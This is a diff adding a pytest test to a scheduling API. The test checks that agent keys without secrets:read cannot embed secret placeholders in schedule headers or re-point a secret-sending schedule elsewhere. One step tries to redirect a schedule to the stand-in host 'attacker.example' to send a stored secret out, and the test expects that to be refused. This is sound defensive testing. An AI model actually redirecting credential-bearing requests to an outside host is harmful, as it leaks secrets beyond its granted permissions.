@@ -377,3 +377,47 @@ def test_agents_create_with_write_scope_and_their_deletes_wait(
     approved = client.post(f"/api/approvals/{held.json()['changeRequestId']}/approve", headers=admin, json={})
     assert approved.status_code == 200, approved.text
     assert client.get(f"/api/schedules/{job_id}", headers=admin).status_code == 404
+
+
+def test_an_agent_that_may_not_read_secrets_may_not_send_them(
+    client: TestClient, admin: dict[str, str]
+) -> None:
+    """`${{secrets.KEY}}` in a header sends the value to the schedule's URL: an agent key without
+    secrets:read may neither put one there nor move a schedule that sends one elsewhere. One with it may."""
+    key = f"SCHED_{secrets.token_hex(4).upper()}"
+    made = client.post("/api/secrets", headers=admin, json={"key": key, "value": "do-not-send"})
+    assert made.status_code == 201, made.text
+    placeholder = {"Authorization": f"Bearer ${{{{secrets.{key}}}}}"}
+    writer = agent_headers(client, admin, ["schedules:write"])
+    trusted = agent_headers(client, admin, ["schedules:write", "secrets:read"])
+    before = count_of(client, admin)
+
+    refused = client.post("/api/schedules", json=schedule(headers=placeholder), headers=writer)
+    assert refused.status_code == 403, refused.text
+    assert refused.json()["error"] == "FORBIDDEN" and key in refused.json()["message"]
+    assert "secrets:read" in refused.json()["nextActions"]
+    assert count_of(client, admin) == before  # nothing was made
+
+    sending = create(client, admin, headers=placeholder)  # a person's schedule that sends the secret
+    moved = client.patch(
+        f"/api/schedules/{sending}", json={"functionUrl": "https://attacker.example/x"}, headers=writer
+    )
+    assert moved.status_code == 403, moved.text
+    assert client.get(f"/api/schedules/{sending}", headers=admin).json()["functionUrl"] == TARGET
+    added = client.patch(
+        f"/api/schedules/{create(client, admin)}", json={"headers": placeholder}, headers=writer
+    )
+    assert added.status_code == 403, added.text
+    # What does not send a secret elsewhere stays open: its name, its cadence, switching it off.
+    renamed = client.patch(
+        f"/api/schedules/{sending}", json={"name": "renamed", "isActive": False}, headers=writer
+    )
+    assert renamed.status_code == 200, renamed.text
+
+    assert (
+        client.post("/api/schedules", json=schedule(headers=placeholder), headers=trusted).status_code == 201
+    )
+
+
+def count_of(client: TestClient, admin: dict[str, str]) -> int:
+    return len(client.get("/api/schedules", headers=admin).json())
